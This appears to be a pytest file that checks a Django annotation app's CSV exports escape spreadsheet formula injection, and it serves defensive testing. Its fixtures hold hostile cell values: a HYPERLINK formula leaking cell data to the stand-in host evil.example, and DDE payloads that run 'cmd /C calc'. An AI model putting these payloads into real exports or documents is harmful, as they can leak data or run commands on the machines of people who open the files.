"""CSV exports are safe to open in a spreadsheet, with a raw option (issue 12, finding 6).

The bug guarded against: a participant id such as `=HYPERLINK("https://evil.example",...)`
was written raw into `Annotator_ID`, and a spreadsheet opening the export ran it as a formula.
Ids like that are now refused at entry, but rows from before the rule, Prolific's own export
(imported as a study) and claim texts can still start with a formula character, so the CSV
writer escapes every free-text cell, on the Python path and on PostgreSQL's COPY path alike."""
from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta

import pandas as pd
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from annotation.dataio.judgment_table import (
    COLUMNS,
    export_chunks,
    judgment_table,
    read_judgment_table,
)
from annotation.dataio.services import data_export_path
from annotation.models import (
    DataExport,
    Dataset,
    FramedClaim,
    Judgment,
    Participant,
    Study,
)
from annotation.studies.assignment import participant_consent, participant_enter
from annotation.studies.judgments import Answer, judgment_record
from annotation.studies.selectors import batch_items
from annotation.studies.services import study_create
from annotation.tasks import run_data_export

pytestmark = pytest.mark.django_db

FORMULA_ID = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your bonus")'
DANGEROUS = {
    "p-formula": FORMULA_ID,
    "p-plus": "+1+cmd|' /C calc'!A0",
    "p-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "p-tab": "\t=1+1",
    "p-quote": "'already quoted",
}


@pytest.fixture
def owner(db):
    return get_user_model().objects.create_user("erin", password="pw-erin-long")


@pytest.fixture
def study(owner):
    call_command("load_demo", no_user=True, stdout=io.StringIO())
    study = study_create(dataset=Dataset.objects.get(name="FrameLab demo"), name="escape me",
                         base_claims=8, batch_size=6, raters_per_batch=5, seed=4, owner=owner,
                         status=Study.Status.OPEN)
    for safe_id, stored_id in DANGEROUS.items():
        participant = participant_consent(participant=participant_enter(study=study, external_id=safe_id))
        items = batch_items(participant.batch_id)
        for position in sorted(items)[:2]:
            judgment_record(participant=participant, item=items[position], answer=Answer(
                accept=True, confidence=3, familiarity=2,
                shown_at=timezone.now() - timedelta(seconds=20), submission_key=uuid.uuid4(),
                response_time_ms=1500))
        # As a row from before the id rule, or from Prolific's export, would hold it.
        Participant.objects.filter(pk=participant.pk).update(
            external_id=stored_id, platform_session_id="-" + safe_id)
    shown = Judgment.objects.filter(participant__study=study).values("item__framed_claim")[:1]
    FramedClaim.objects.filter(pk__in=shown).update(text="-40 degrees is as cold in C as in F.")
    Study.objects.filter(pk=study.pk).update(name="@pilot (escape me)")
    study.refresh_from_db()
    return study


def cells(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def assert_spreadsheet_safe(data: bytes):
    rows = cells(data)
    assert rows
    for row in rows:
        for column in COLUMNS:
            value = row[column]
            assert not value[:1] in ("=", "+", "-", "@", "\t", "\r"), (column, value)


def test_the_default_csv_escapes_every_formula_leading_cell(study):
    data = b"".join(export_chunks(study=study, fmt="csv", use_copy=False))
    assert_spreadsheet_safe(data)
    ids = {row["Annotator_ID"] for row in cells(data)}
    assert "'" + FORMULA_ID in ids and "''already quoted" in ids and "'\t=1+1" in ids
    assert "'-40 degrees is as cold in C as in F." in {row["text"] for row in cells(data)}


def test_raw_csv_writes_cells_as_stored(study):
    data = b"".join(export_chunks(study=study, fmt="csv", use_copy=False, raw_csv=True))
    assert set(DANGEROUS.values()) == {row["Annotator_ID"] for row in cells(data)}


def test_both_read_back_to_the_same_table(study):
    expected = judgment_table(study=study)
    escaped = b"".join(export_chunks(study=study, fmt="csv", use_copy=False))
    raw = b"".join(export_chunks(study=study, fmt="csv", use_copy=False, raw_csv=True))
    pd.testing.assert_frame_equal(read_judgment_table(io.BytesIO(escaped), "csv"), expected)
    pd.testing.assert_frame_equal(read_judgment_table(io.BytesIO(raw), "csv", raw_csv=True), expected)


def test_json_lines_and_parquet_are_never_escaped(study):
    data = b"".join(export_chunks(study=study, fmt="jsonl", use_copy=False))
    assert FORMULA_ID in set(pd.read_json(io.BytesIO(data), lines=True)["Annotator_ID"])


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
@pytest.mark.parametrize("raw_csv", [False, True])
def test_the_copy_path_escapes_byte_for_byte_like_the_python_path(study, raw_csv):
    by_python = b"".join(export_chunks(study=study, fmt="csv", use_copy=False, raw_csv=raw_csv))
    by_copy = b"".join(export_chunks(study=study, fmt="csv", use_copy=True, raw_csv=raw_csv))
    assert by_copy == by_python
    by_python = b"".join(export_chunks(study=study, fmt="parquet", use_copy=False))
    by_copy = b"".join(export_chunks(study=study, fmt="parquet", use_copy=True))
    pd.testing.assert_frame_equal(read_judgment_table(io.BytesIO(by_copy), "parquet"),
                                  read_judgment_table(io.BytesIO(by_python), "parquet"))


def test_the_command_escapes_unless_told_raw(study, tmp_path):
    call_command("export_judgments", study=study.name, fmt="csv", out=str(tmp_path / "a.csv"),
                 no_progress=True, stdout=io.StringIO())
    assert_spreadsheet_safe((tmp_path / "a.csv").read_bytes())
    call_command("export_judgments", study=study.name, fmt="csv", out=str(tmp_path / "b.csv"),
                 no_progress=True, raw_csv=True, stdout=io.StringIO())
    assert FORMULA_ID in {row["Annotator_ID"] for row in cells((tmp_path / "b.csv").read_bytes())}
    out = io.StringIO()
    call_command("export_judgments", study=study.name, fmt="csv", out="-", stdout=out)
    assert_spreadsheet_safe(out.getvalue().encode())


def _api(user):
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return client


def test_the_api_download_escapes_unless_raw_csv(study, owner):
    api = _api(owner)
    url = reverse("api:judgment-export", args=[study.pk])
    escaped = api.get(url, {"file_format": "csv"})
    assert escaped.status_code == 200
    assert_spreadsheet_safe(b"".join(escaped.streaming_content))
    raw = api.get(url, {"file_format": "csv", "raw_csv": "true"})
    assert FORMULA_ID in {row["Annotator_ID"] for row in cells(b"".join(raw.streaming_content))}


@pytest.mark.parametrize("raw_csv", [False, True])
def test_background_exports_keep_the_choice(study, owner, raw_csv):
    api = _api(owner)
    response = api.post(reverse("api:study-exports", args=[study.pk]),
                        {"file_format": "csv", "raw_csv": raw_csv}, format="json")
    assert response.status_code == 202, response.content
    job = DataExport.objects.get(pk=response.json()["id"])
    job.refresh_from_db()
    if job.status != DataExport.Status.SUCCEEDED:  # eager in tests; run it if it was not
        run_data_export(job.pk)
        job.refresh_from_db()
    data = data_export_path(job).read_bytes()
    ids = {row["Annotator_ID"] for row in cells(data)}
    assert (FORMULA_ID in ids) is raw_csv
    if not raw_csv:
        assert_spreadsheet_safe(data)


def test_the_web_download_escapes_unless_raw_is_ticked(study, owner):
    client = Client()
    client.force_login(owner)
    url = reverse("annotation:study-export-stream", args=[study.pk])
    assert_spreadsheet_safe(b"".join(client.get(url, {"format": "csv"}).streaming_content))
    raw = client.get(url, {"format": "csv", "raw_csv": "on"})
    assert FORMULA_ID in {row["Annotator_ID"] for row in cells(b"".join(raw.streaming_content))}
    page = client.get(reverse("annotation:study-exports", args=[study.pk]))
    assert b'name="raw_csv"' in page.content

